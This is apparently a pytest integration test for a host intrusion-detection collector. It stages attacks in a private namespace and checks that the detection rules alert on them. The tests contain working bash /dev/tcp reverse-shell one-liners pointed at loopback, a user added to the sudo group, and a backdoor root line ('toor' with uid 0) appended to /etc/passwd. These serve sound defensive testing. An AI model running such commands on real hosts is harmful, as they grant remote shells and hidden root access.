"""Real attacks on a host, seen by the agent's host probes, judged by the built-in rules.

The probes (tests/fixtures/probe_host.py: exec capture, outbound connections, file
integrity, auth log) run in a private mount namespace whose /etc is a copy of the
machine's and whose /dev is an overlay (so a syslog socket can be /dev/log there
and nowhere else): usermod, useradd and a rewrite of /etc/passwd run in that
namespace (nsenter) and never touch the real /etc. Their events go, as they arrive,
through the collector's detection engine with the built-in packs; each test waits
(with a generous deadline) for the alert that names what happened, and checks that
a second attack of the same kind is not hidden by the first alert of its rule.

Findings (issue 15): a short-lived reverse shell was never seen (5 s poll); a user
added to sudo raised nothing; /etc/passwd rewritten showed as an update 9 minutes
later; a root reverse shell was swallowed by an earlier alert of the same rule.
"""

from __future__ import annotations

import json
import os
import queue
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from collector.detect.engine import Engine
from collector.detect.loader import BUILTIN_DIR, builtin_packs, load_rules

ROOT = Path(__file__).resolve().parents[2]
PY = sys.executable
DEADLINE = 60.0


def need(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        pytest.fail(f"{tool} is not installed (deploy/test-deps.sh installs it)")
    return path


class Host:
    """The probes in their namespace, the engine over their events, the alerts so far."""

    def __init__(self, tmp: Path, config: dict[str, Any]) -> None:
        self.tmp = tmp
        etc, upper, work = tmp / "etc", tmp / "dev-upper", tmp / "dev-work"
        subprocess.run(["cp", "-a", "/etc", str(etc)], check=True)
        upper.mkdir()
        work.mkdir()
        state = tmp / "state"
        state.mkdir()
        config = {"syslog_socket": "/dev/log", **config}
        script = (f"mount --bind {etc} /etc && "
                  f"mount -t overlay overlay -o lowerdir=/dev,upperdir={upper},workdir={work} /dev"
                  f" && exec {PY} -m tests.fixtures.probe_host --state-dir {state}"
                  f" --config '{json.dumps(config)}'")
        self.proc = subprocess.Popen(
            [need("unshare"), "--mount", "--propagation", "private", "sh", "-c", script],
            cwd=str(ROOT), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)})
        self.lines: queue.Queue[dict[str, Any]] = queue.Queue()
        self.events: list[dict[str, Any]] = []
        self.alerts: list[dict[str, Any]] = []
        self.status: dict[str, Any] = {}
        rules = load_rules([(BUILTIN_DIR / p, f"canhgac/{p}") for p in builtin_packs()])
        assert not rules.refused, rules.refused
        self.engine = Engine([lr.rule for lr in rules.loaded])
        self.rule_ids = {lr.rule.meta.name: lr.rule.meta.id for lr in rules.loaded}
        threading.Thread(target=self._read, daemon=True).start()
        self.wait(lambda: bool(self.status), 60, "probes ready")

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.lines.put(json.loads(line))

    def pump(self, timeout: float = 0.1) -> None:
        try:
            doc = self.lines.get(timeout=timeout)
        except queue.Empty:
            return
        if "ready" in doc or "status" in doc:
            self.status = doc.get("ready") or doc["status"]
        elif "failed" in doc:
            raise AssertionError(f"probe failed: {doc['failed']}")
        else:
            self.events.append(doc)
            self.alerts.extend(self.engine.process([doc]))

    def wait(self, cond, timeout: float = DEADLINE, what: str = "") -> None:  # type: ignore[no-untyped-def]
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if cond():
                return
            if self.proc.poll() is not None and self.lines.empty():
                err = self.proc.stderr.read() if self.proc.stderr else ""
                raise AssertionError(f"probe host exited {self.proc.returncode}: {err}")
            self.pump()
        seen = [(a["rule"]["name"], a.get("process"), a.get("file")) for a in self.alerts]
        raise AssertionError(f"timed out waiting for {what}; alerts: {seen}; status: {self.status}")

    def run(self, *cmd: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        """A command inside the probes' mount namespace (its /etc is the copy)."""
        return subprocess.run([need("nsenter"), "--mount", "--target", str(self.proc.pid), "--", *cmd],
                              capture_output=True, text=True, timeout=60, check=check)

    def alerts_of(self, rule: str) -> list[dict[str, Any]]:
        rid = self.rule_ids[rule]
        return [a for a in self.alerts if a["rule"]["id"] == rid]

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


@pytest.fixture
def host_factory(tmp_path: Path) -> Iterator[Any]:
    started: list[Host] = []

    def start(**config: Any) -> Host:
        h = Host(tmp_path, config)
        started.append(h)
        return h

    yield start
    for h in started:
        h.stop()


FIM = {"paths": ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers",
                 "/etc/sudoers.d"], "scan_interval": 3600}


class Listener:
    """A TCP listener on loopback that accepts and holds connections (the attacker's nc -l);
    with ``commands``, sends them to each connection (what the attacker types)."""

    def __init__(self, commands: bytes = b"") -> None:
        self.commands = commands
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.held: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(conn)
            if self.commands:
                conn.sendall(self.commands)

    def close(self) -> None:
        for c in self.held:
            c.close()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


def test_short_lived_reverse_shells_each_alert_with_command_line_and_user(host_factory):
    h = host_factory(file_integrity=FIM)
    # The attacker's listener runs one command through the shell and ends it: each
    # reverse shell lives milliseconds, far less than the old 5 s poll.
    attacker = Listener(b"id\nexit\n")
    try:
        _reverse_shells(h, attacker.port)
    finally:
        attacker.close()


def _reverse_shells(h: Host, port: int) -> None:
    nobody = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; : nobody-was-here; bash <&3 >&3 2>&3'"
    root = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; : root-was-here; bash <&3 >&3 2>&3'"
    # First an unprivileged one, then root's: the second must not be folded away.
    subprocess.run([need("setpriv"), "--reuid=65534", "--regid=65534", "--clear-groups",
                    "sh", "-c", nobody], check=True, timeout=30)

    def bash_alert(text: str) -> dict[str, Any] | None:
        # setpriv and sh carry the text too; the reverse shell is the bash process.
        for a in h.alerts_of("canhgac_reverse_shell"):
            p = a.get("process") or {}
            if p.get("executable", "").endswith("/bash") and text in p.get("command_line", ""):
                return a
        return None

    h.wait(lambda: bash_alert("nobody-was-here"), what="nobody's reverse shell")
    subprocess.run(["sh", "-c", root], check=True, timeout=30)
    h.wait(lambda: bash_alert("root-was-here"), what="root's reverse shell")
    first, second = bash_alert("nobody-was-here"), bash_alert("root-was-here")
    assert first is not None and second is not None
    assert first["user"]["name"] == "nobody" and second["user"]["name"] == "root"
    assert first["process"]["parent"]["executable"].endswith("sh")
    assert f"/dev/tcp/127.0.0.1/{port}" in second["process"]["command_line"]


def test_outbound_connection_from_a_shell_names_process_and_destination(host_factory, listener):
    h = host_factory(file_integrity=FIM,
                     socket={"outbound_interval": 0.2, "outbound_include_loopback": True})
    cmd = f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; read -t 60 line <&3"
    shell = subprocess.Popen(["bash", "-c", cmd])
    try:
        h.wait(lambda: h.alerts_of("canhgac_shell_outbound_connection"), what="shell connection alert")
    finally:
        shell.kill()
        shell.wait()
    alert = h.alerts_of("canhgac_shell_outbound_connection")[0]
    assert alert["destination"] == {"ip": "127.0.0.1", "port": listener.port}
    assert alert["process"]["pid"] == shell.pid
    assert alert["process"]["executable"].endswith("/bash")
    assert f"/dev/tcp/127.0.0.1/{listener.port}" in alert["process"]["command_line"]
    conns = [e for e in h.events if e["event"].get("action") == "connection-opened"
             and e["destination"]["port"] == listener.port]
    assert len(conns) == 1  # the accepted side is inbound and not reported


def test_user_added_to_sudo_alerts_with_user_and_group(host_factory):
    h = host_factory(file_integrity=FIM)
    h.run("useradd", "--no-create-home", "cg-intruder")
    h.run("usermod", "-aG", "sudo", "cg-intruder")
    h.wait(lambda: h.alerts_of("canhgac_privileged_group_membership"), what="sudo membership alert")
    a = h.alerts_of("canhgac_privileged_group_membership")[0]
    assert a["user"]["name"] == "cg-intruder" and a["group"]["name"] == "sudo"
    # A second user added to sudo is a second alert, not folded into the first.
    h.run("useradd", "--no-create-home", "cg-intruder2")
    h.run("usermod", "-aG", "sudo", "cg-intruder2")
    h.wait(lambda: any(x["user"]["name"] == "cg-intruder2"
                       for x in h.alerts_of("canhgac_privileged_group_membership")),
           what="second sudo membership alert")
    # useradd and usermod wrote /etc/passwd and /etc/group: account tools, no tampering alert.
    h.wait(lambda: any(e.get("file", {}).get("path") == "/etc/group"
                       and e.get("canhgac", {}).get("file", {}).get("writer") == "account_tool"
                       for e in h.events), what="/etc/group change attributed to usermod")
    assert h.alerts_of("canhgac_account_file_tampering") == []
    real = Path("/etc/group").read_text(encoding="utf-8")
    assert "cg-intruder" not in real  # the machine's own /etc is untouched


def test_passwd_rewritten_by_a_non_account_tool_alerts_each_time(host_factory):
    h = host_factory(file_integrity=FIM)
    h.run("sh", "-c", "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd")
    h.wait(lambda: h.alerts_of("canhgac_account_file_tampering"), what="tampering alert")
    a = h.alerts_of("canhgac_account_file_tampering")[0]
    assert a["file"]["path"] == "/etc/passwd"
    h.run("sed", "-i", "s/^toor:/t00r:/", "/etc/passwd")
    h.wait(lambda: len(h.alerts_of("canhgac_account_file_tampering")) >= 2,
           what="second tampering alert")
    hashes = {x["file"]["hash"]["sha256"] for x in h.alerts_of("canhgac_account_file_tampering")}
    assert len(hashes) == 2
    assert "toor" not in Path("/etc/passwd").read_text(encoding="utf-8")


def test_where_the_connector_is_refused_the_process_probe_polls_and_says_why(tmp_path):
    """The kernel refuses the connector outside the initial network namespace (and, on
    older kernels, without CAP_NET_ADMIN): the probe falls back to the /proc poll, with
    no crash loop, and reports why in its status."""
    proc = subprocess.Popen(
        [need("unshare"), "--net", PY, "-m",
         "agent.probes.process", "--state-dir", str(tmp_path), "--config", '{"interval": 0.5}'],
        cwd=str(ROOT), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)})
    status: dict[str, Any] = {}
    try:
        assert proc.stdout is not None
        deadline = time.monotonic() + DEADLINE
        for line in proc.stdout:
            doc = json.loads(line)
            if "status" in doc:
                status = doc["status"]
                break
            assert time.monotonic() < deadline
    finally:
        proc.terminate()
        proc.wait(10)
    assert status["source"] == "poll"
    assert "connector unavailable" in status["reason"]
    assert proc.returncode == 0
